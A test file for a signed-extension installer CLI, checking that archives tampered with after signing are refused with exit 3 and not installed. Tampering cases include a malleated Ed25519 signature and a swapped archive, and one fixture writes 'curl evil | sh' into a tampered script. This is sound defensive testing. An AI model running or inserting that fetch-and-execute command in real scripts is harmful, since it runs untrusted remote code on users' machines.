// Tampering after signing is caught (issue 2 "done when"): each case is refused
// through the CLI with exit 3 and its own code, and nothing is installed.
import { describe, expect, it, beforeAll } from 'vitest';
import { appendFileSync, existsSync, readFileSync, renameSync, writeFileSync } from 'node:fs';
import { createHash } from 'node:crypto';
import { install } from './install.js';
import { parsePublicKeyPem } from './trust/ed25519.js';
import path from 'node:path';
import { cli, expectAextError, newKey, signedRawZip, skillFiles, tmpdir, type RawEntry } from './test-helpers/index.js';
import type { PrivateKey } from './trust/ed25519.js';

let A: { key: PrivateKey; priv: string; pub: string };
let B: { key: PrivateKey; priv: string; pub: string };
let dir: string;
beforeAll(async () => {
  dir = tmpdir();
  A = await newKey(dir, 'a');
  B = await newKey(dir, 'b');
});

const base = () => [...skillFiles('fixture', '1.0.0', 'tester', { shell: true }), { name: 'scripts/run.sh', data: Buffer.from('#!/bin/sh\necho hi\n') }] as RawEntry[];

function expectRefused(bytes: Buffer, code: string, extraArgs: string[] = []) {
  const f = path.join(dir, `${code}-${Math.random().toString(36).slice(2)}.aext`);
  writeFileSync(f, bytes);
  const root = path.join(dir, `root-${Math.random().toString(36).slice(2)}`);
  const r = cli(['install', f, '--pub', A.pub, '--root', root, '--yes', '--json', ...extraArgs]);
  expect(r.json.ok).toBe(false);
  expect(r.json.error.code, r.stderr).toBe(code);
  expect(r.code).toBe(3);
  expect(r.stderr).not.toMatch(/\n\s+at /); // no stack trace
  expect(existsSync(path.join(root, 'aext-lock.json'))).toBe(false);
  expect(existsSync(path.join(root, 'extensions', 'tester'))).toBe(false);
  const v = cli(['verify', f, '--pub', A.pub, '--json']);
  expect(v.code).toBe(3);
  expect(v.json.error.code).toBe(code);
  return r;
}

describe('tampering is refused with exit 3', () => {
  it('accepts the untampered archive (control)', () => {
    const f = path.join(dir, 'good.aext');
    writeFileSync(f, signedRawZip(base(), [A.key]));
    const r = cli(['install', f, '--pub', A.pub, '--root', path.join(dir, 'good-root'), '--yes', '--json']);
    expect(r.code, r.stderr).toBe(0);
    expect(r.json.ok).toBe(true);
  });
  it('a file added after signing → E_ENTRY_UNLISTED', () => {
    const r = expectRefused(signedRawZip([...base(), { name: 'extra.js', data: Buffer.from('evil()') }], [A.key], { indexFrom: base() }), 'E_ENTRY_UNLISTED');
    expect(r.json.error.entry).toBe('extra.js');
  });
  it('a file changed after signing (same size) → E_DIGEST_MISMATCH', () => {
    const evil = base().map((e) => (e.name === 'scripts/run.sh' ? { ...e, data: Buffer.from('#!/bin/sh\necho HI\n') } : e));
    expect(evil[2]!.data!.length).toBe(base()[2]!.data!.length);
    const r = expectRefused(signedRawZip(evil, [A.key], { indexFrom: base() }), 'E_DIGEST_MISMATCH');
    expect(r.json.error.entry).toBe('scripts/run.sh');
  });
  it('a file changed after signing (other size) → E_SIZE_MISMATCH', () => {
    const evil = base().map((e) => (e.name === 'scripts/run.sh' ? { ...e, data: Buffer.from('#!/bin/sh\ncurl evil | sh\n') } : e));
    expectRefused(signedRawZip(evil, [A.key], { indexFrom: base() }), 'E_SIZE_MISMATCH');
  });
  it('the manifest changed after signing → E_MANIFEST_MISMATCH', () => {
    const manifest = JSON.parse(String(base()[0]!.data));
    const tampered = Buffer.from(JSON.stringify({ ...manifest, description: 'A test fixture skilL.' }));
    const evil2 = base().map((e) => (e.name === 'aext.json' ? { ...e, data: tampered } : e));
    expectRefused(signedRawZip(evil2, [A.key], { indexFrom: base() }), 'E_MANIFEST_MISMATCH');
  });
  it('the envelope removed → E_ENVELOPE_MISSING', () => {
    expectRefused(signedRawZip(base(), [A.key], { noEnvelope: true }), 'E_ENVELOPE_MISSING');
  });
  it('a signature by an untrusted key → E_UNTRUSTED_KEY', () => {
    expectRefused(signedRawZip(base(), [B.key]), 'E_UNTRUSTED_KEY');
  });
  it("an untrusted signature labelled with the trusted key's id → E_SIG_INVALID (key id is only a hint)", () => {
    expectRefused(signedRawZip(base(), [B.key], { envelope: (e) => ({ ...e, signatures: e.signatures.map((s) => ({ ...s, keyid: A.key.publicKey.keyid })) }) }), 'E_SIG_INVALID');
  });
  it('a malleated signature (S + L) → E_SIG_INVALID', () => {
    const L = (1n << 252n) + 27742317777372353535851937790883648493n;
    expectRefused(
      signedRawZip(base(), [A.key], {
        envelope: (e) => ({
          ...e,
          signatures: e.signatures.map((s) => {
            const sig = Buffer.from(s.sig, 'base64');
            let S = 0n;
            for (let i = 31; i >= 0; i--) S = (S << 8n) | BigInt(sig[32 + i]!);
            S += L;
            for (let i = 0; i < 32; i++) sig[32 + i] = Number((S >> BigInt(8 * i)) & 0xffn);
            return { ...s, sig: sig.toString('base64') };
          }),
        }),
      }),
      'E_SIG_INVALID',
    );
  });
  it('a truncated signature (63 bytes) → E_SIG_INVALID', () => {
    expectRefused(signedRawZip(base(), [A.key], { envelope: (e) => ({ ...e, signatures: e.signatures.map((s) => ({ ...s, sig: Buffer.from(s.sig, 'base64').subarray(0, 63).toString('base64') })) }) }), 'E_SIG_INVALID');
  });
  it('a bit-flipped signature → E_SIG_INVALID', () => {
    expectRefused(
      signedRawZip(base(), [A.key], {
        envelope: (e) => ({ ...e, signatures: e.signatures.map((s) => { const b = Buffer.from(s.sig, 'base64'); b[5]! ^= 1; return { ...s, sig: b.toString('base64') }; }) }),
      }),
      'E_SIG_INVALID',
    );
  });
  it('the INDEX edited with the old signature kept → E_SIG_INVALID', () => {
    const good = signedRawZip(base(), [A.key]);
    void good;
    let oldSigs: Array<{ keyid: string; sig: string }> = [];
    signedRawZip(base(), [A.key], { envelope: (e) => ((oldSigs = e.signatures), e) });
    expectRefused(signedRawZip(base(), [], { index: (ix) => ({ ...ix, version: '9.9.9' }), envelope: (e) => ({ ...e, signatures: oldSigs }) }), 'E_SIG_INVALID');
  });
  it('a signed INDEX naming another version than aext.json → E_MANIFEST_MISMATCH', () => {
    expectRefused(signedRawZip(base(), [A.key], { index: (ix) => ({ ...ix, version: '2.0.0' }) }), 'E_MANIFEST_MISMATCH');
  });
  it('a foreign payloadType (cross-protocol replay) → E_PAYLOAD_TYPE', () => {
    expectRefused(signedRawZip(base(), [A.key], { envelope: (e) => ({ ...e, payloadType: 'application/vnd.aext.revocations+json' }) }), 'E_PAYLOAD_TYPE');
  });
  it('an unsigned archive → E_UNSIGNED; --allow-unsigned installs it loudly', () => {
    const bytes = signedRawZip(base(), []);
    expectRefused(bytes, 'E_UNSIGNED');
    const f = path.join(dir, 'unsigned.aext');
    writeFileSync(f, bytes);
    const r = cli(['install', f, '--root', path.join(dir, 'unsigned-root'), '--yes', '--allow-unsigned', '--json']);
    expect(r.code, r.stderr).toBe(0);
    expect(r.json.unsigned).toBe(true);
    expect(r.stderr).toMatch(/UNSIGNED/);
  });
  it('--allow-unsigned never accepts a bad signature', () => {
    const f = path.join(dir, 'badsig.aext');
    writeFileSync(f, signedRawZip(base(), [B.key]));
    const r = cli(['install', f, '--pub', A.pub, '--root', path.join(dir, 'r2'), '--yes', '--allow-unsigned', '--json']);
    expect(r.code).toBe(3);
    expect(r.json.error.code).toBe('E_UNTRUSTED_KEY');
  });
});

describe('the archive digest names the bytes that were verified (issue 10, class 11)', () => {
  const sha = (b: Buffer) => createHash('sha256').update(b).digest('hex');
  it('a different archive swapped in at the path after verification is not what the lock records', async () => {
    const good = signedRawZip(base(), [A.key]);
    const other = signedRawZip([...base(), { name: 'extra.txt', data: Buffer.from('x') }], [A.key]);
    const f = path.join(dir, 'swap.aext');
    writeFileSync(f, good);
    const root = path.join(dir, 'swap-root');
    const pub = parsePublicKeyPem(readFileSync(A.pub, 'utf8'));
    const r = await install(f, {
      pub: [pub], root, yes: true, useTrustStore: false,
      onVerified: () => {
        const t = `${f}.new`;
        writeFileSync(t, other);
        renameSync(t, f); // a new inode at the same path
      },
    });
    expect(r.archive_sha256).toBe(sha(good));
    expect(r.archive_sha256).not.toBe(sha(other));
    expect(existsSync(path.join(r.path, 'extra.txt'))).toBe(false);
  });
  it('the archive written in place while it is read → E_ARCHIVE_REWRITTEN, nothing installed', async () => {
    const good = signedRawZip(base(), [A.key]);
    const f = path.join(dir, 'inplace.aext');
    writeFileSync(f, good);
    const root = path.join(dir, 'inplace-root');
    const pub = parsePublicKeyPem(readFileSync(A.pub, 'utf8'));
    await expectAextError(install(f, { pub: [pub], root, yes: true, useTrustStore: false, onVerified: () => appendFileSync(f, Buffer.from('trailing junk')) }), 'E_ARCHIVE_REWRITTEN');
    expect(existsSync(path.join(root, 'aext-lock.json'))).toBe(false);
    expect(existsSync(path.join(root, 'extensions', 'tester'))).toBe(false);
  });
});
